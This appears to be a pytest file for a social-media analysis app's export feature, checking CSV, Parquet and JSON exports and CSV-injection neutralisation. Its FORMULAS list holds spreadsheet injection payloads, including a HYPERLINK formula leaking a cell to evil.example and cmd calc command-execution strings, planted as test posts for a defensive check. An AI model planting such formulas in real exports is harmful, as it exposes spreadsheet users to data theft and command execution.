"""Export from the app: any filtered view of the posts as CSV (Excel-safe), Parquet and JSON, the
same posts in each and the same as the explorer counts; formula payloads neutralised in the CSV
(also when downloaded by Chromium); the report downloaded from the app equals askscope report."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from conftest import shared
from fastapi.testclient import TestClient
from web_campaigns import campaign_store
from web_server import chromium, needs_browser, served

import askscope
from askscope.web.app import create_app

#: Cells a spreadsheet would run as formulas, planted as post texts (OWASP's CSV-injection list).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def formula_store(folder: Path) -> str:
    """A store of real fixture posts plus one post per formula payload (text and author name)."""
    page = json.loads(open(shared("fixtures", "x-v2", "two_tweets.jsonl")).read())
    tweets = list(page["data"])
    users = list(page.get("includes", {}).get("users", []))
    for i, payload in enumerate(FORMULAS):
        users.append({"id": str(700 + i), "username": f"f{i}", "name": payload, "created_at": "2015-01-01T00:00:00Z"})
        tweets.append(
            {
                "id": str(7000 + i),
                "text": payload,
                "author_id": str(700 + i),
                "created_at": f"2021-05-18T10:0{i}:00.000Z",
                "public_metrics": {"retweet_count": 0, "reply_count": 0, "like_count": 0, "quote_count": 0},
            }
        )
    page.update({"data": tweets, "includes": {**page.get("includes", {}), "users": users}})
    source = folder / "formulas.jsonl"
    source.write_text(json.dumps(page) + "\n")
    db = str(folder / "formulas.duckdb")
    askscope.ingest(db, [str(source)])
    return db


def _csv(content: bytes) -> tuple[list[str], list[list[str]]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: Excel reads it as UTF-8
    text = content[3:].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    # records end with CRLF (a line break inside a quoted post text stays as it is)
    assert text.startswith(",".join(rows[0]) + "\r\n") and text.endswith("\r\n")
    return rows[0], rows[1:]


def test_csv_neutralises_formulas_and_keeps_every_other_text(tmp_path):
    db = formula_store(tmp_path)
    with askscope.open_store(db, read_only=True) as store:
        texts = dict(store.con.execute("SELECT id, text FROM posts WHERE NOT is_context").fetchall())
    with TestClient(create_app([db], snapshot_dir=tmp_path / "snaps")) as client:
        response = client.get("/export/posts.csv?set=all")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="askscope-formulas-posts.csv"'
    header, rows = _csv(response.content)
    assert header[:7] == ["platform", "id", "author_id", "author_handle", "created_at", "kind", "text"]
    got = {row[1]: row[header.index("text")] for row in rows}
    assert set(got) == set(texts)
    for post_id, text in texts.items():
        if text.startswith(("=", "+", "-", "@")):
            # a leading ' makes the cell text in Excel and LibreOffice; the rest is unchanged
            assert got[post_id] == "'" + text
        else:
            assert got[post_id] == text
    assert got["7000"] == "'" + FORMULAS[0]
    # no cell of the file starts a formula
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_the_same_posts_in_csv_parquet_json_and_the_explorer(tmp_path):
    db = str(campaign_store("uber"))
    # the demo's hostile posts: category in (question_critical, mockery, abuse) among the 81 audience
    # posts, counted straight from the tables
    with askscope.open_store(db, read_only=True) as store:
        hostile = {
            i
            for (i,) in store.con.execute(
                "SELECT r.post_id FROM relations r JOIN labels l ON l.platform = r.platform AND l.post_id = r.post_id "
                "AND l.task = 'discourse' WHERE r.in_campaign AND r.relation <> 'host' "
                "AND l.label IN ('question_critical', 'mockery', 'abuse')"
            ).fetchall()
        }
    # the demo's hostile share as stored by the lens (its k; 12 of 81 before the question model 2.1.0, 11 since)
    assert len(hostile) == askscope.lens_results(db)["backfire"]["hostile_share"]["k"] > 5
    with TestClient(create_app([db], snapshot_dir=tmp_path / "snaps")) as client:
        query = "category=hostile&sort=-time"
        count = client.get(f"/api/posts?{query}").json()["count"]
        header, rows = _csv(client.get(f"/export/posts.csv?{query}").content)
        table = pq.read_table(io.BytesIO(client.get(f"/export/posts.parquet?{query}").content))
        doc = json.loads(client.get(f"/export/posts.json?{query}").content)
        everything = json.loads(client.get("/export/posts.json?set=campaign").content)
        bad = client.get("/export/posts.csv?category=sarcasm")
        report_json = client.get("/export/report.json")
        report_md = client.get("/export/report.md")
    assert count == len(rows) == table.num_rows == len(doc["posts"]) == len(hostile)
    ids = [row[1] for row in rows]
    assert set(ids) == hostile
    assert table.column("id").to_pylist() == ids == [p["id"] for p in doc["posts"]]  # same order: newest first
    times = [p["created_at"] for p in doc["posts"]]
    assert times == sorted(times, reverse=True)
    assert {p["category"] for p in doc["posts"]} <= {"question_critical", "mockery", "abuse"}
    assert doc["description"].startswith("the audience's posts of the campaign")
    assert str(table.schema.field("created_at").type).startswith("timestamp[us, tz=")
    assert len(everything["posts"]) == 103  # the demo's campaign: 103 posts, the host's 22 included
    # the labels and relation come with every post, also when the filter reads none of them
    with askscope.open_store(db, read_only=True) as store:
        labelled = dict(
            store.con.execute(
                "SELECT r.post_id, l.label FROM relations r JOIN labels l ON l.platform = r.platform "
                "AND l.post_id = r.post_id AND l.task = 'discourse' WHERE r.in_campaign"
            ).fetchall()
        )
    assert {p["id"]: p["category"] for p in everything["posts"] if p["category"]} == labelled
    assert sum(p["relation"] == "host" for p in everything["posts"]) == 22
    assert bad.status_code == 400 and "sarcasm" in bad.json()["detail"]
    # the report from the app is askscope report's
    assert report_json.status_code == 200
    assert report_json.text == askscope.report(db, format="json")
    assert report_md.text.startswith("# askscope report: Uber Sydney during the Sydney siege")
    assert report_md.headers["content-disposition"] == 'attachment; filename="askscope-uber-report.md"'


def test_a_store_without_analysis_cannot_give_a_report(tmp_path):
    db = formula_store(tmp_path)
    with TestClient(create_app([db], snapshot_dir=tmp_path / "snaps")) as client:
        response = client.get("/export/report.html")
        audience = client.get("/export/posts.csv")  # the default set needs an analysis
    assert response.status_code == 409 and "has not been analysed" in response.json()["detail"]
    assert audience.status_code == 400 and "analyze" in audience.json()["detail"]


@needs_browser
def test_a_csv_downloaded_in_chromium_neutralises_a_planted_hyperlink(tmp_path):
    db = formula_store(tmp_path)
    with served(create_app([db], snapshot_dir=tmp_path / "snaps")) as base, chromium() as browser:
        context = browser.new_context(accept_downloads=True)
        page = context.new_page()
        page.set_default_timeout(30_000)
        page.goto(base + "/posts?set=all")
        with page.expect_download(timeout=30_000) as info:
            page.evaluate("url => { window.location.href = url }", base + "/export/posts.csv?set=all&q=HYPERLINK")
        download = info.value
        target = tmp_path / "download.csv"
        download.save_as(str(target))
        assert download.suggested_filename == "askscope-formulas-posts.csv"
        context.close()
    header, rows = _csv(target.read_bytes())
    assert len(rows) == 1
    assert rows[0][header.index("text")] == "'" + FORMULAS[0]
    assert rows[0][header.index("text")].startswith("'=HYPERLINK(")


@pytest.mark.parametrize("path", ["/export/posts.xlsx", "/export/report.pdf"])
def test_unknown_formats_are_refused(tmp_path, path):
    db = formula_store(tmp_path)
    with TestClient(create_app([db], snapshot_dir=tmp_path / "snaps")) as client:
        assert client.get(path).status_code == 422
